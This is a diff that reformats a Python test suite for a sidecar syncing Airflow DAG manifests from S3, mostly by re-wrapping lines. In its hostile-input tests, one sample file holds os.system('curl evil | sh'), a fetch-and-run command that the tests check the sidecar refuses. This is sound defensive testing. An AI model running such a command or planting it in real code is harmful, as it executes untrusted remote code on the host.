@@ -45,7 +45,9 @@ def example_files() -> dict[str, dict[str, bytes]]:
     }
 
 
-def manifest(package: str, name: str, *, description: str = "generated for a sync test", **changes: object) -> bytes:
+def manifest(
+    package: str, name: str, *, description: str = "generated for a sync test", **changes: object
+) -> bytes:
     """A valid manifest ``<package>_<name>`` (from the pipeline example), with top-level ``changes``."""
     doc = json.loads(example_files()["pipeline_processing"]["pipeline_processing_example_job.json"])
     doc.update(package=package, dag_id=f"{package}_{name}", description=description, tags=[package])
@@ -82,11 +84,25 @@ class World:
     def record(self, package: str, files: dict[str, bytes], *, tombstone: bool = False) -> Release:
         self.release_no += 1
         entries = {f"dags/{n}": FileEntry(hashlib.sha256(d).hexdigest(), len(d)) for n, d in files.items()}
-        return Release(package, ENV, f"r{self.release_no}", "2024-06-01T00:00:00Z", "test", files=entries,
-                       tombstone=tombstone)
+        return Release(
+            package,
+            ENV,
+            f"r{self.release_no}",
+            "2024-06-01T00:00:00Z",
+            "test",
+            files=entries,
+            tombstone=tombstone,
+        )
 
-    def release(self, package: str, files: dict[str, bytes], *, upload: bool = True, tombstone: bool = False,
-                with_stubs: bool = True) -> Release:
+    def release(
+        self,
+        package: str,
+        files: dict[str, bytes],
+        *,
+        upload: bool = True,
+        tombstone: bool = False,
+        with_stubs: bool = True,
+    ) -> Release:
         """Publish a release: files first, the record (the commit point) last. Stubs are added for manifests."""
         files = dict(files)
         if with_stubs:
@@ -135,7 +151,11 @@ class Watcher(threading.Thread):
             elif path.suffix == ".py":
                 if not stub.is_canonical(path.name, data) and not self.allow_python:
                     self.violations.append(f"non-canonical python {path}")
-                if stub.is_canonical(path.name, data) and not path.with_suffix(".json").exists() and path.exists():
+                if (
+                    stub.is_canonical(path.name, data)
+                    and not path.with_suffix(".json").exists()
+                    and path.exists()
+                ):
                     self.violations.append(f"stub without manifest {path}")
             elif path.suffix not in (".json", ".py"):
                 self.violations.append(f"unexpected file {path}")
@@ -185,9 +205,16 @@ class Sidecar:
         self.reconciler = self.build()
 
     def build(self) -> Reconciler:
-        return Reconciler(client=s3support.client(retries=2), bucket=self.world.bucket, environment=ENV,
-                          dags_folder=self.root, state_dir=self.root / ".dagfactory-sync", log=Log(self.out),
-                          metrics=self.metrics, **self.options)
+        return Reconciler(
+            client=s3support.client(retries=2),
+            bucket=self.world.bucket,
+            environment=ENV,
+            dags_folder=self.root,
+            state_dir=self.root / ".dagfactory-sync",
+            log=Log(self.out),
+            metrics=self.metrics,
+            **self.options,
+        )
 
     def restart(self) -> None:
         self.reconciler.close()
@@ -291,7 +318,10 @@ class TestReconcile:
         world.release("demo", files)
         sidecar.cycle()
         assert sorted(sidecar.served()) == [f"demo/dags/demo_{n}.{e}" for n in "ab" for e in ("json", "py")]
-        assert [e["path"] for e in sidecar.events("delete")] == ["demo/dags/demo_c.py", "demo/dags/demo_c.json"]
+        assert [e["path"] for e in sidecar.events("delete")] == [
+            "demo/dags/demo_c.py",
+            "demo/dags/demo_c.json",
+        ]
 
     def test_mirror_delete_removes_files(self, world, sidecar):
         """Without a record, deleting objects in S3 deletes the files (the seed's --delete)."""
@@ -479,8 +509,11 @@ class TestFailStatic:
         import dagfactory_s3._sync_reconcile as reconcile
 
         v1 = {f"demo_{n}.json": manifest("demo", n) for n in "abc"}
-        v2 = {"demo_a.json": manifest("demo", "a", description="v2"), "demo_b.json": manifest("demo", "b"),
-              "demo_d.json": manifest("demo", "d")}
+        v2 = {
+            "demo_a.json": manifest("demo", "a", description="v2"),
+            "demo_b.json": manifest("demo", "b"),
+            "demo_d.json": manifest("demo", "d"),
+        }
         real_write, real_unlink = reconcile._write, pathlib.Path.unlink
 
         class Killed(BaseException):
@@ -543,8 +576,10 @@ class TestHostile:
         evil = b"import os\nos.system('curl evil | sh')\n"
         world.mirror("demo", {"demo_a.json": manifest("demo", "a"), "demo_a.py": evil, "demo_evil.py": evil})
         report = sidecar.cycle()
-        assert sidecar.served() == {"demo/dags/demo_a.json": manifest("demo", "a"),
-                                    "demo/dags/demo_a.py": stub.render("demo_a.json")}
+        assert sidecar.served() == {
+            "demo/dags/demo_a.json": manifest("demo", "a"),
+            "demo/dags/demo_a.py": stub.render("demo_a.json"),
+        }
         refusals = {e["key"]: e for e in sidecar.events("refuse")}
         assert set(refusals) == {f"{ENV}/demo/dags/demo_a.py", f"{ENV}/demo/dags/demo_evil.py"}
         assert all(e["kind"] == "python" and "canonical" in e["reason"] for e in refusals.values())
@@ -592,7 +627,9 @@ class TestHostile:
         assert sorted(sidecar.served()) == ["demo/dags/demo_ok.json", "demo/dags/demo_ok.py"]
         assert sorted(e["key"] for e in sidecar.events("refuse")) == sorted(self.BAD_KEYS)
         assert report.refused == len(self.BAD_KEYS)
-        on_disk = sorted(p.name for p in dags.parent.rglob("*") if p.is_file() and ".dagfactory-sync" not in p.parts)
+        on_disk = sorted(
+            p.name for p in dags.parent.rglob("*") if p.is_file() and ".dagfactory-sync" not in p.parts
+        )
         assert on_disk == ["demo_ok.json", "demo_ok.py"]
 
     FOREIGN: ClassVar[dict[str, tuple[bytes, str]]] = {
@@ -636,13 +673,26 @@ class TestHostile:
         """Two packages claim one DAG id: the one serving it keeps it; the newcomer is refused, naming both."""
         world.mirror("etl", {"etl_sales_load.json": manifest("etl", "sales_load")})
         sidecar.cycle()
-        world.release("etl_sales", {"etl_sales_load.json": manifest("etl_sales", "load"),
-                                    "etl_sales_other.json": manifest("etl_sales", "other")})
+        world.release(
+            "etl_sales",
+            {
+                "etl_sales_load.json": manifest("etl_sales", "load"),
+                "etl_sales_other.json": manifest("etl_sales", "other"),
+            },
+        )
         report = sidecar.cycle()
-        assert sorted(sidecar.served()) == ["etl/dags/etl_sales_load.json", "etl/dags/etl_sales_load.py",
-                                            "etl_sales/dags/etl_sales_other.json", "etl_sales/dags/etl_sales_other.py"]
+        assert sorted(sidecar.served()) == [
+            "etl/dags/etl_sales_load.json",
+            "etl/dags/etl_sales_load.py",
+            "etl_sales/dags/etl_sales_other.json",
+            "etl_sales/dags/etl_sales_other.py",
+        ]
         refusal = sidecar.events("refuse")[0]
-        assert refusal["kind"] == "collision" and "'etl'" in refusal["reason"] and "'etl_sales'" in refusal["reason"]
+        assert (
+            refusal["kind"] == "collision"
+            and "'etl'" in refusal["reason"]
+            and "'etl_sales'" in refusal["reason"]
+        )
         assert report.refused == 1
         world.delete(f"{ENV}/etl/dags/etl_sales_load.json")
         world.mirror("keep", {"keep_a.json": manifest("keep", "a"), "keep_b.json": manifest("keep", "b")})
@@ -700,9 +750,12 @@ class TestObservability:
         sidecar.cycle()
         events = [(e["event"], e.get("path")) for e in sidecar.events() if e["event"] != "cycle"]
         assert events == [
-            ("add", "demo/dags/demo_a.json"), ("add", "demo/dags/demo_a.py"),
-            ("add", "demo/dags/demo_b.json"), ("add", "demo/dags/demo_b.py"),
-            ("delete", "demo/dags/demo_a.py"), ("delete", "demo/dags/demo_a.json"),
+            ("add", "demo/dags/demo_a.json"),
+            ("add", "demo/dags/demo_a.py"),
+            ("add", "demo/dags/demo_b.json"),
+            ("add", "demo/dags/demo_b.py"),
+            ("delete", "demo/dags/demo_a.py"),
+            ("delete", "demo/dags/demo_a.json"),
         ]
 
 
